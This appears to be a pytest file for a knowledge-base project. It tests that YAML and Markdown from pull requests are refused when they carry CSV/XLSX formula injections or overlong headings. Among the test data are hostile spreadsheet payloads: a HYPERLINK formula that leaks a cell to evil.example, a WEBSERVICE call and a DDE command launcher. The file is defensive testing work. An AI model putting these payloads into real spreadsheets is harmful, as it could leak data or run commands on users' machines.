"""Hostile sources (issue 18): every form a pull request can use to get a formula into the
downloads, a surprise out of YAML, a slow path into the checks or a raw quote into the theme ends
in a message naming the file, the line and the fix, never a traceback. Each case is a table row
against the kb function the check lives in."""

from __future__ import annotations

import io
import zipfile

import openpyxl
import pytest

from kb import exports
from kb.knowledge import load_knowledge

from fixture_data import data, edit, problems  # noqa: F401  (data is a fixture)

DEFINITION = "    definition: Acts committed with intent to destroy a group. A second sentence.\n"
ORG_DESCRIPTION = "    description: Supports local peacebuilders.\n"


# --- (d) formulas in the CSV and XLSX downloads ----------------------------------------------
FORMULA_CASES = [
    # (file, fixture line to replace, replacement, line of the message, words of the message)
    ("glossary.yml", DEFINITION,
     """    definition: '=HYPERLINK("http"&":"&"//evil.example/?leak="&ENCODEURL(B3),"Read")'\n""", 6, "formula"),
    ("organizations.yml", ORG_DESCRIPTION, """    description: '=WEBSERVICE("x")'\n""", 7, "formula"),
    ("glossary.yml", DEFINITION, "    definition: '@SUM(1+1)*cmd'\n", 6, "formula"),
    ("glossary.yml", DEFINITION, """    definition: '+HYPERLINK("x","y")'\n""", 6, "formula"),
    ("glossary.yml", DEFINITION, """    definition: '-2+HYPERLINK("x","y")'\n""", 6, "formula"),
    ("glossary.yml", DEFINITION, """    definition: "+cmd|' /C calc'!A0"\n""", 6, "formula"),
    ("glossary.yml", DEFINITION, '    definition: "  =1+1"\n', 6, "formula"),        # spaces are stripped first
    ("glossary.yml", DEFINITION, '    definition: "Acts\\tcommitted with intent."\n', 6, "tab"),
    ("glossary.yml", DEFINITION, '    definition: "Acts\\rcommitted with intent."\n', 6, "more than one line"),
    ("glossary.yml", "    term: genocide\n", "    term: '=genocide'\n", 5, "formula"),
]


@pytest.mark.parametrize("name, old, new, line, words", FORMULA_CASES)
def test_a_formula_in_a_data_text_is_refused_with_file_line_and_fix(data, name, old, new, line, words):
    edit(data, name, old, new)
    [problem] = problems(data)
    assert (problem.file, problem.line) == (f"data/{name}", line)
    assert words in problem.message and problem.fix


@pytest.mark.parametrize("text", ["+Peace", "+Peace coalition", "+Paz", "-minus sign then words (a note)",
                                  "+Peace (a coalition)", "Fees of +5% were paid"])
def test_a_name_that_begins_with_a_sign_stays_valid(data, text):
    edit(data, "organizations.yml", "    name: Peace Direct\n", f"    name: \"{text}\"\n")
    assert load_knowledge(data).organizations


def test_every_xlsx_text_cell_is_text_even_when_it_begins_like_a_formula():
    """Read back: no <f> element in the sheet, every value text, the formula-like ones quote-prefixed."""
    cells = ['=HYPERLINK("http"&":"&"//evil.example","Read")', "+Peace", "@SUM(A1)", "-1", "plain"]
    data = exports.to_xlsx({"t": (["a"], [[c] for c in cells])}, [["version", "v"]], "2026-01-01T00:00:00+00:00")
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        assert not any("<f>" in archive.read(n).decode() for n in archive.namelist() if n.startswith("xl/worksheets/"))
    sheet = openpyxl.load_workbook(io.BytesIO(data))["t"]
    read = [(c.value, c.data_type, c.quotePrefix) for (c,) in sheet.iter_rows(min_row=2)]
    assert read == [(c, "s", c[0] in "=+-@") for c in cells]


# --- (c) headings and titles a pull request can make very long -----------------------------
PAGE = "---\ndescription: A page.\n---\n\n# A page { #a-page }\n\n"
LONG_HEADINGS = [
    # (the Markdown after the front matter and H1, the words of the message)
    ("## Hashes {" + "#" * 6_000, "characters long; a heading has at most"),
    ("## Hashes {" + "#" * 20_000 + "}", "characters long; a heading has at most"),
    ("## " + "a " * 10_000 + "{ #long }", "characters long; a heading has at most"),
    ("## Hashes {" + "#" * 250, "has no explicit id"),
    ("## Words" + " " * 20_000 + "more", "characters long; a heading has at most"),
    ("# " + "A" * 30_000, "characters long; a title has at most"),
]


@pytest.mark.parametrize("markdown, words", LONG_HEADINGS, ids=lambda v: repr(v[:16]))
def test_a_very_long_heading_ends_in_one_short_message(markdown, words):
    from kb.page_checks import check_headings, check_heading_ids
    found = check_headings(PAGE + markdown + "\n", "docs/about.md") + check_heading_ids(PAGE + markdown + "\n", "docs/about.md")
    [problem] = found
    assert (problem.file, problem.line) == ("docs/about.md", 7)
    assert words in problem.message and problem.fix
    assert len(problem.message) < 200 and len(problem.fix) < 200      # the heading is quoted cut, not whole


@pytest.mark.parametrize("heading, expected", [
    ("Title { #the-id }", "the-id"), ("Title {#the-id}", "the-id"), ("Title { .wide #the-id }", "the-id"),
    ("Title { #first #second }", "second"), ("Title {: #the-id }", "the-id"), ("Title { #the-id }  ", "the-id"),
    ("Title", None), ("Title { .wide }", None), ("Title { # }", None), ("Title { #the-id } more", None),
    ("Hashes {" + "#" * 6_000, None),
], ids=lambda v: repr(v)[:24])
def test_the_explicit_id_is_read_from_the_attribute_list_at_the_end(heading, expected):
    from kb.page_checks import explicit_id
    assert explicit_id(heading) == expected


@pytest.mark.parametrize("title", ["A" * 30_000, "word " * 6_000, "Supercalifragilistic" * 40 + " end"],
                         ids=["30000-letters", "6000-words", "long-word-then-one"])
def test_a_card_title_too_long_to_fit_is_cut_with_an_ellipsis_within_the_card(title):
    from kb.cards import CARD_WIDTH, FONT, MARGIN, MAX_TITLE_LINES, _fit_title
    width = CARD_WIDTH - 2 * MARGIN
    font, lines = _fit_title(title, FONT, width)
    assert len(lines) <= MAX_TITLE_LINES and lines[-1].endswith(" …")
    assert font.getlength(lines[-1]) <= width and title.startswith(lines[0].removesuffix(" …"))
